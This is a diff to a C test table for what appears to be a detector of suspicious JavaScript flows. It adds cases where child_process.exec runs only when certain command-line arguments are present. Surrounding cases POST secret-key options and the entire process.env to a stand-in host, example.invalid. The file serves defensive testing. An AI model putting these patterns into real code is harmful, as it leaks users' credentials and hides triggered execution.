@@ -228,6 +228,16 @@ static const Case flows[] = {
     { "a longer parameter speaks for itself", "a.js",
       "exports.fromSecretKey = (options) => { fetch('https://example.invalid/?' + options) }",
       "!parameter", NULL, NULL },
+    { "waits for a word on the command line", "a.js",
+      "const w = process.argv.slice(2); if (w.find(x => x === 'go') && w.some(x => x === '--now')) "
+      "require('child_process').exec('echo went')",
+      "proc.exec|echo went|exec", NULL, NULL },
+    { "or for one and not another", "a.js",
+      "const a = process.argv; if (a.includes('x') || !a.find(x => x === 'debug') === !a.find(x => "
+      "x "
+      "=== '--send')) return; if (!a.find(x => x === 'debug')) "
+      "require('child_process').exec('echo sent')",
+      "proc.exec|echo sent|exec", NULL, NULL },
     { "the whole environment, key by key", "a.js",
       "const o = {}; for (const k of Object.keys(process.env)) o[k] = process.env[k]; "
       "fetch('https://example.invalid/', { method: 'POST', body: JSON.stringify(o) })",
